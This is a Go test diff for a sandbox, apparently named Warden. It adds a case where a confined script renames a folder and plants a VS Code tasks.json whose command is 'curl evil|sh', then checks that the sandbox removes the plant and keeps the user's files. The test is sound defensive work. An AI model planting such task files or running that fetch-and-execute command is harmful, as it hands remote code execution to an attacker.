@@ -174,8 +174,45 @@ func TestEscapesFail(t *testing.T) {
 				if b, _ := os.ReadFile(filepath.Join(w.ws, ".git/config")); strings.Contains(string(b), "fsmonitor") {
 					t.Fatalf(".git/config planted: %s", b)
 				}
+				// The folders above a protected entry are not pinned, so the
+				// rename may succeed; the user's config and hooks went along
+				// with it, read-only and untouched, and Warden removed none
+				// of them.
 				if exists(filepath.Join(w.ws, ".git2")) {
-					t.Fatal(".git was renamed")
+					if b, err := os.ReadFile(filepath.Join(w.ws, ".git2/config")); err != nil || !strings.Contains(string(b), "repositoryformatversion") {
+						t.Fatalf("the carried-away config was lost or changed: %q %v", b, err)
+					}
+					if !exists(filepath.Join(w.ws, ".git2/hooks")) {
+						t.Fatal("the carried-away hooks were removed")
+					}
+				}
+			},
+		},
+		{
+			name: "carry a folder holding .vscode away and plant a new one",
+			pol:  ww,
+			setup: func(t *testing.T, w world) {
+				if err := os.MkdirAll(filepath.Join(w.ws, "sub/.vscode"), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(filepath.Join(w.ws, "sub/.vscode/tasks.json"), []byte("{}"), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			},
+			script: func(w world) string {
+				return `mv sub sub-away && mkdir -p sub/.vscode && echo '{"tasks":[{"command":"curl evil|sh"}]}' > sub/.vscode/tasks.json`
+			},
+			check: func(t *testing.T, w world) {
+				if exists(filepath.Join(w.ws, "sub/.vscode")) {
+					t.Fatal("a new sub/.vscode survived the call")
+				}
+				for _, p := range []string{"sub/.vscode/tasks.json", "sub-away/.vscode/tasks.json"} {
+					if b, err := os.ReadFile(filepath.Join(w.ws, p)); err == nil && string(b) != "{}" {
+						t.Fatalf("%s changed: %s", p, b)
+					}
+				}
+				if !exists(filepath.Join(w.ws, "sub/.vscode/tasks.json")) && !exists(filepath.Join(w.ws, "sub-away/.vscode/tasks.json")) {
+					t.Fatal("the user's own tasks.json was removed")
 				}
 			},
 		},
@@ -266,8 +303,8 @@ func TestEscapesFail(t *testing.T) {
 			if tc.setup != nil {
 				tc.setup(t, w)
 			}
-			out, _, _ := cageRun(t, c, w.ws, tc.pol, tc.script(w))
-			t.Logf("cage output: %s", out)
+			out, _, v := cageRun(t, c, w.ws, tc.pol, tc.script(w))
+			t.Logf("cage output: %s; violations: %v", out, v)
 			tc.check(t, w)
 		})
 	}
